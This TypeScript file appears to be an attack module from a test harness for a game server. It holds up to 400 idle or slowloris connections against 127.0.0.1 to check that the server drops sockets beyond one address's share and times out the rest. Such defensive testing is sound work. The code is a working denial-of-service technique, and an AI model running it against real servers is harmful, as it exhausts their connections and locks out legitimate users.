/**
 * TCP connections that never become a request, as many as one address can open: half of them
 * silent, half sending request headers that never end (slowloris). The server closes what is
 * past the address's share at once and the rest when HANDSHAKE_TIMEOUT_MS runs out; an
 * honest player from another address never notices. A socket the server closed is opened
 * again a moment later, so the attacker keeps the most it can hold.
 */
import { connect, type Socket } from 'node:net';
import { type Attack, type AttackTally, count, sleep } from './attack.js';

/** Sockets the attacker tries to hold at once: far past any one address's share. */
const SOCKETS = 400;
const SLOW_HEADERS = 'GET / HTTP/1.1\r\nHost: arena\r\n';

/**
 * How soon a socket the server closed is opened again: at once after it held one for a while,
 * and after a second when it was refused at once (the address's share is full). This attack
 * holds sockets; a flood of connects from one machine only fills the kernel's accept queue,
 * which delays every connection to the port, the honest players' too, whatever the server does.
 */
const REOPEN_AFTER_HOLD_MS = 50;
const REOPEN_AFTER_REFUSAL_MS = 1000;
const REFUSED_WITHIN_MS = 100;

export const silentSockets: Attack = async (target, durationMs) => {
  const tally: AttackTally = {};
  const open = new Set<Socket>();
  let stopped = false;
  const openOne = (slow: boolean): void => {
    if (stopped) return;
    const socket = connect(target.port, '127.0.0.1');
    socket.on('error', () => {});
    socket.once('connect', () => {
      count(tally, 'opened');
      if (slow) socket.write(SLOW_HEADERS);
    });
    open.add(socket);
    const openedAt = performance.now();
    socket.once('close', () => {
      open.delete(socket);
      if (stopped) return;
      const refused = performance.now() - openedAt < REFUSED_WITHIN_MS;
      count(tally, refused ? 'refused-at-once' : 'closed-after-holding');
      setTimeout(() => openOne(slow), refused ? REOPEN_AFTER_REFUSAL_MS : REOPEN_AFTER_HOLD_MS);
    });
  };
  for (let i = 0; i < SOCKETS; i++) openOne(i % 2 === 1);
  await sleep(durationMs);
  stopped = true;
  count(tally, 'held-at-end', [...open].filter((socket) => !socket.connecting).length);
  for (const socket of open) socket.destroy();
  // Until the server has seen them go, the address is still at its share and a new connection
  // from it (the test's own check that the server answers) is refused.
  await sleep(200);
  return tally;
};
